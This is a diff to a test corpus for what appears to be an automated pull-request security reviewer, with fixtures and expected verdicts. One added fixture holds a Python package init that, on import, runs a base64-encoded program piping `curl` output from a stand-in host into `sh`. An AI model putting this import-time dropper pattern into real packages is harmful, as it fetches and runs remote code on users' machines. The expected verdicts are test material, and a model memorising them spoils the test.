@@ -1842,7 +1842,7 @@ export const ATTACK_CASES: CorpusEntry[] = [
         title: 'feat: read token claims',
         files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "module.exports.claims = (jwt) => JSON.parse(Buffer.from(jwt.split('.')[1], 'base64url').toString());", "module.exports.basicUser = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];") }],
       }),
-    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:obfuscated-code'] },
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
   },
   {
     id: 'attack-secrets-through-gh',
@@ -3129,5 +3129,41 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:dynamic-code-execution', 'finding:shell-command-execution'] },
+  },
+  {
+    id: 'attack-pypi-init-runs-decoded-in-subinterpreter',
+    description: 'A package `__init__.py` that, on import, starts a second Python with `-c` and a base64-decoded program (eval by another name: no `exec(` on the line, the payload too short to be a blob), as malicious PyPI droppers of 2024-2025 did to detach from the importing process.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11006,
+        title: 'Package init',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tinted/__init__.py',
+            base: lines('from .core import tint', '', "__all__ = ['tint']"),
+            head: lines('import base64, subprocess, sys', 'from .core import tint', '', "subprocess.Popen([sys.executable, '-c', base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL3guaW52YWxpZC9wIHwgc2giKQ==').decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)", '', "__all__ = ['tint']"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'attack-python-decodes-key-for-subprocess',
+    description: 'The benign look-alike: a release helper that decodes a base64 signing key from the environment into a file and runs `gpg --import` on it; the decoded text is data for a tool, not the program it runs.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11007,
+        title: 'Import the release signing key',
+        files: [
+          {
+            path: 'scripts/import_key.py',
+            head: lines('import base64, os, subprocess, tempfile', '', 'def main():', "    key = base64.b64decode(os.environ['RELEASE_GPG_KEY'])", "    with tempfile.NamedTemporaryFile(suffix='.asc', delete=False) as f:", '        f.write(key)', "    subprocess.run(['gpg', '--batch', '--import', f.name], check=True)", '    os.unlink(f.name)', '', "if __name__ == '__main__':", '    main()'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
   },
 ];
